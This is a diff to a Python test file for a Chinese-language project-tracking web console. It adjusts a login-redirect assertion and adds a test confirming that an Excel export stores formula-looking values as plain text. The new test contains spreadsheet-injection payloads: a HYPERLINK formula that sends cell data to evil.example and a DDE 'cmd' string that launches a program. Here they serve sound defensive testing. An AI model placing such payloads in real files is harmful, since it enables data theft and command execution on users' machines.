@@ -40,7 +40,7 @@ async def seed(console) -> None:  # type: ignore[no-untyped-def]
 async def test_pages_need_a_signed_in_person(console) -> None:
     async with console.client() as client:
         response = await client.get("/projects?stage=signed")
-        assert response.status_code == 303 and response.headers["location"] == "/login?next=/projects?stage=signed"
+        assert response.status_code == 303 and response.headers["location"] == "/login?next=/projects%3Fstage%3Dsigned"
         failed = await client.post("/login", data={"login": "office", "password": "wrong"})
         assert failed.status_code == 401 and "账号或密码不正确" in failed.text
 
@@ -98,6 +98,17 @@ async def test_the_list_sorts_and_exports_what_it_shows(console) -> None:
     export = await office.get("/projects.xlsx?leader=陈立新")
     sheet = load_workbook(io.BytesIO(export.content)).active
     assert sorted(row[1] for row in sheet.iter_rows(min_row=2, values_only=True)) == ["城西科创产业园", "留下物流中心"]
+
+
+async def test_the_list_export_writes_formula_looking_county_text_as_text(console) -> None:
+    injected = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    await apply_project_changes(console.sessions, [project_changed(4, name=injected, stage="signed", leader="@SUM(1)",
+                                                                   responsible_unit="+cmd|' /C calc'!A0")], NOW)
+    export = await (await console.signed_in("office")).get("/projects.xlsx")
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    row = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == injected)
+    assert {(cell.value, cell.data_type) for cell in (row[1], row[5], row[6])} == {
+        (injected, "s"), ("+cmd|' /C calc'!A0", "s"), ("@SUM(1)", "s")}
 
 
 async def test_the_project_page_shows_timeline_ledger_expropriation_escalations_and_changes(console) -> None:
